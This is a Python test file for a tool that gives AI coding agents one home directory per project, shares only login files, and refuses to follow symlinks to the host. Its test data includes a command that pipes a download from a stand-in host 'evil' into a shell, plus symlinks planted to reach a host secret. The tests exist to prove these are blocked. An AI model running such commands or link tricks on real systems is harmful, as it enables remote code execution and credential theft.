"""hutch.homes and hutch.logins: one agent home per project; only the login
state is shared, and a home's links never reach the host."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from hutch import homes, logins
from hutch.agents import BUILTIN, LoginFile
from hutch.paths import Dirs

CLAUDE = BUILTIN["claude"]
CANARY = "CANARY_5f3a"


def dirs(tmp_path: Path) -> Dirs:
    return Dirs(*(str(tmp_path / sub) for sub in ("c", "d", "s")))


def home_of(d: Dirs, project: Path) -> Path:
    prepared = homes.prepare(d, str(project), CLAUDE)
    assert prepared.notices == ()
    return Path(prepared.home)


def log_in(home: Path, token: str) -> None:
    """What Claude Code writes when it logs in (and what it keeps per project)."""
    (home / ".claude").mkdir(exist_ok=True)
    (home / ".claude" / ".credentials.json").write_text(json.dumps({"claudeAiOauth": {"accessToken": token}}))
    (home / ".claude.json").write_text(json.dumps({
        "oauthAccount": {"emailAddress": "me@example.org"}, "hasCompletedOnboarding": True,
        "projects": {"/src/a": {"history": [CANARY]}},
    }))  # fmt: skip


def test_each_project_has_its_own_home_and_an_index(tmp_path: Path) -> None:
    d = dirs(tmp_path)
    a, b = home_of(d, tmp_path / "a"), home_of(d, tmp_path / "b")
    assert a != b and a.name == b.name == "claude"
    assert (a.parent.parent / "project").read_text() == f"{tmp_path / 'a'}\n"
    assert a.stat().st_mode & 0o777 == 0o700 and a.parent.parent.stat().st_mode & 0o777 == 0o700
    # Any path, a name that is not UTF-8 included, gives a home of its own.
    odd = homes.prepare(d, "/src/x\udcff y", CLAUDE).home
    assert Path(odd).is_dir() and (Path(odd).parent.parent / "project").read_bytes() == b"/src/x\xff y\n"


def test_the_login_is_shared_and_nothing_else(tmp_path: Path) -> None:
    d = dirs(tmp_path)
    a = home_of(d, tmp_path / "a")
    log_in(a, "token-1")
    (a / ".bashrc").write_text(f"echo {CANARY}")
    (a / ".claude" / "settings.json").write_text('{"hooks": "' + CANARY + '"}')
    assert homes.finish(d, str(tmp_path / "a"), CLAUDE) == ()
    b = home_of(d, tmp_path / "b")
    credentials = json.loads((b / ".claude" / ".credentials.json").read_text())
    assert credentials["claudeAiOauth"]["accessToken"] == "token-1"
    claude_json = json.loads((b / ".claude.json").read_text())
    assert claude_json == {"oauthAccount": {"emailAddress": "me@example.org"}, "hasCompletedOnboarding": True}
    assert sorted(p.name for p in b.rglob("*")) == [".claude", ".claude.json", ".credentials.json"]
    # A refreshed token in B reaches A's next session; A's own history stays A's.
    log_in(b, "token-2")
    homes.finish(d, str(tmp_path / "b"), CLAUDE)
    a_again = home_of(d, tmp_path / "a")
    assert "token-2" in (a_again / ".claude" / ".credentials.json").read_text()
    assert CANARY in (a_again / ".claude.json").read_text()  # its own projects entry
    assert CANARY in (a_again / ".bashrc").read_text()


def test_a_logout_is_shared_too(tmp_path: Path) -> None:
    d = dirs(tmp_path)
    a = home_of(d, tmp_path / "a")
    log_in(a, "token-1")
    homes.finish(d, str(tmp_path / "a"), CLAUDE)
    b = home_of(d, tmp_path / "b")
    (b / ".claude" / ".credentials.json").unlink()
    (b / ".claude.json").write_text('{"projects": {}}')
    homes.finish(d, str(tmp_path / "b"), CLAUDE)
    a_again = home_of(d, tmp_path / "a")
    assert not (a_again / ".claude" / ".credentials.json").exists()
    assert "oauthAccount" not in json.loads((a_again / ".claude.json").read_text())
    assert not homes.logged_in(d, CLAUDE, str(a_again))


def test_a_login_left_by_a_killed_session_is_shared_at_the_next_start(tmp_path: Path) -> None:
    d = dirs(tmp_path)
    a = home_of(d, tmp_path / "a")
    log_in(a, "token-1")  # ...and hutch was killed: no finish()
    home_of(d, tmp_path / "a")  # the next start in A
    b = home_of(d, tmp_path / "b")
    assert "token-1" in (b / ".claude" / ".credentials.json").read_text()


def test_links_in_a_home_never_reach_the_host(tmp_path: Path) -> None:
    d = dirs(tmp_path)
    secret = tmp_path / "host-secret.json"
    secret.write_text(json.dumps({"claudeAiOauth": CANARY}))
    host_dir = tmp_path / "host-dir"
    host_dir.mkdir()
    a = home_of(d, tmp_path / "a")
    # The session plants links where the login files are.
    (a / ".claude").mkdir()
    (a / ".claude" / ".credentials.json").symlink_to(secret)
    (a / ".claude.json").symlink_to(secret)
    homes.finish(d, str(tmp_path / "a"), CLAUDE)
    store = Path(logins.store_dir(d.data, "claude"))
    assert CANARY not in "".join(p.read_text() for p in store.rglob("*") if p.is_file())
    # A linked directory on the way: nothing read through it, nothing written into it.
    b_project = tmp_path / "b"
    b = home_of(d, b_project)
    log_in(b, "token-1")
    homes.finish(d, str(b_project), CLAUDE)
    (a / ".claude" / ".credentials.json").unlink()
    (a / ".claude").rmdir()
    (a / ".claude").symlink_to(host_dir)
    # The pull would write the login into A's home: refused, and said.
    notices = homes.prepare(d, str(tmp_path / "a"), CLAUDE).notices
    assert len(notices) == 1 and "login state not shared, .claude/.credentials.json" in notices[0]
    assert os.listdir(host_dir) == []
    assert secret.read_text() == json.dumps({"claudeAiOauth": CANARY})


def test_read_beneath_follows_no_link(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "real" / "f").write_text("x")
    (tmp_path / "link").symlink_to(tmp_path / "real")
    assert logins.read_beneath(str(tmp_path), "real/f") == b"x"  # the control
    assert logins.read_beneath(str(tmp_path), "link/f") is None
    (tmp_path / "real" / "g").symlink_to(tmp_path / "real" / "f")
    assert logins.read_beneath(str(tmp_path), "real/g") is None
    os.mkfifo(tmp_path / "real" / "fifo")
    assert logins.read_beneath(str(tmp_path), "real/fifo") is None  # and does not wait


@pytest.mark.parametrize(
    ("login", "home_file", "part"),
    [
        (LoginFile("s.json", ("security.auth", "selectedAuthType")),
         {"security": {"auth": {"selectedType": "oauth"}, "folderTrust": True}, "hooks": "x"},
         {"security.auth": {"selectedType": "oauth"}}),
        (LoginFile("s.json", ("a",)), {"b": 1}, None),
    ],
)  # fmt: skip
def test_json_login_parts(login: LoginFile, home_file: dict[str, object], part: object) -> None:
    data = json.dumps(home_file).encode()
    found = logins.login_part(login, data)
    assert (json.loads(found) if found is not None else None) == part
    if found is not None:
        back = json.loads(logins.with_part(login, b'{"security": {"x": 1}}', found) or b"")
        assert back == {"security": {"x": 1, "auth": {"selectedType": "oauth"}}}


def test_env_file_login_part_keeps_only_the_named_variables() -> None:
    login = LoginFile(".aider/oauth-keys.env", ("OPENROUTER_API_KEY",))
    data = b"OPENROUTER_API_KEY=sk-or-1\nAIDER_LINT_CMD=curl evil | sh\n"
    part = logins.login_part(login, data)
    assert part == b"OPENROUTER_API_KEY=sk-or-1\n"
    merged = logins.with_part(login, b"AIDER_DARK_MODE=true\nOPENROUTER_API_KEY=old\n", part)
    assert merged == b"AIDER_DARK_MODE=true\nOPENROUTER_API_KEY=sk-or-1\n"


def test_the_old_shared_home_gives_its_login_once_and_stays(tmp_path: Path) -> None:
    d = dirs(tmp_path)
    old = Path(d.data) / "homes" / "claude"
    old.mkdir(parents=True)
    log_in(old, "token-old")
    (old / ".bashrc").write_text(f"echo {CANARY}")
    prepared = homes.prepare(d, str(tmp_path / "a"), CLAUDE)
    assert len(prepared.notices) == 1 and str(old) in prepared.notices[0]
    assert "login was kept" in prepared.notices[0]
    home = Path(prepared.home)
    assert "token-old" in (home / ".claude" / ".credentials.json").read_text()
    assert not (home / ".bashrc").exists() and CANARY not in (home / ".claude.json").read_text()
    assert (old / ".bashrc").exists() and (old / ".claude.json").exists()  # left in place
    assert homes.prepare(d, str(tmp_path / "b"), CLAUDE).notices == ()  # once


def test_homes_of_vanished_projects(tmp_path: Path) -> None:
    d = dirs(tmp_path)
    kept, gone = tmp_path / "kept", tmp_path / "gone"
    kept.mkdir()
    gone.mkdir()
    home_of(d, kept)
    home_of(d, gone)
    assert homes.vanished(d) == []
    gone.rmdir()
    assert [v.project for v in homes.vanished(d)] == [str(gone)]
